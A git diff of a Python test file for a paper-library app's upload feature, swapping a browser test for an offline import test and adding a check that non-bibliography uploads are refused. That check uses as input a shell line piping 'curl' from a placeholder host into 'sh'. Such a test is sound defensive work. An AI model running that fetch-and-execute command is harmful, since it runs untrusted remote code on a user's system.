@@ -1,15 +1,14 @@
 """Upload to My library (issue 22, point 8): the app reads a file with the CLI's reader and limits,
 says what the graph already has and what is new, and records it as `phenomena import` does.
 
-A real LadybugDB fixture store, real files; the browser part uploads through chromium.
+A real LadybugDB fixture store, real files; the browser flow is tests/e2e/test_browser_library_upload.py.
 """
 from __future__ import annotations
-
-from pathlib import Path
 
 import pytest
 
 from app.pipeline.sources import load_manifest
+from app.settings import Settings
 from app.web import services
 from graph.errors import SourceError
 from graph.store.embedded.store import EmbeddedStore
@@ -63,16 +62,23 @@ def test_recorded_upload_is_an_import_the_next_build_replays(graph, tmp_path):
     assert (home / "imports" / "lib.bib").read_text(encoding="utf-8") == BIB
 
 
-@pytest.mark.browser
-def test_upload_in_the_browser(server, page, tmp_path):
-    page.goto(f"{server}/library")
-    page.get_by_text("Add references").first.wait_for()
-    upload = tmp_path / "my-library.bib"
-    upload.write_text(BIB, encoding="utf-8")
-    page.locator("input[type=file]").set_input_files(str(upload))
-    page.get_by_text("1 paper already in the graph, 1 paper new").wait_for()
-    page.locator(".st-key-library_upload_new").get_by_text("A Paper This Graph Has Never Seen").wait_for()
-    page.locator(".st-key-library_upload_matched").get_by_text("Grokking: Generalization").wait_for()
-    page.get_by_role("button", name="Add to my library").click()
-    page.get_by_text("Recorded as imports/my-library.bib").wait_for()
-    page.screenshot(path=str(Path(__file__).resolve().parents[1] / "artifacts" / "library-upload.png"), full_page=True)
+def test_an_upload_is_imported_and_the_graph_rebuilt_with_it(graph, tmp_path):
+    """The app's "Add to my library": `phenomena import --offline` through run_import (the bundled catalog
+    snapshot, no network), the new paper in the rebuilt graph, found again by the preview's rows."""
+    home = tmp_path / "home"
+    preview, path = services.preview_upload(graph, "my library.bib", BIB.encode(), tmp_path)
+    outcome = services.import_upload(Settings(home=home), path, offline=True)
+    assert outcome.counts["Paper"] > 100
+    assert [i.name for i in load_manifest(home).imports] == ["my-library.bib"]
+    with EmbeddedStore(home / "atlas.lbug") as store:
+        rebuilt = services.load_paper_graph(store)
+    found = services.find_uploaded(rebuilt, preview.new + preview.matched)
+    assert [r["title"] for r in found] == ["A Paper This Graph Has Never Seen",
+                                           "Grokking: Generalization Beyond Overfitting on Small Algorithmic Datasets"]
+    assert all(rebuilt.papers[r["id"]].in_library for r in found)
+
+
+def test_a_refused_upload_leaves_nothing(graph, tmp_path):
+    with pytest.raises(SourceError, match="is not a bibliography"):
+        services.preview_upload(graph, "notes.bib", b"#!/bin/sh\ncurl http://example.invalid | sh\n", tmp_path)
+    assert list(tmp_path.iterdir()) == []
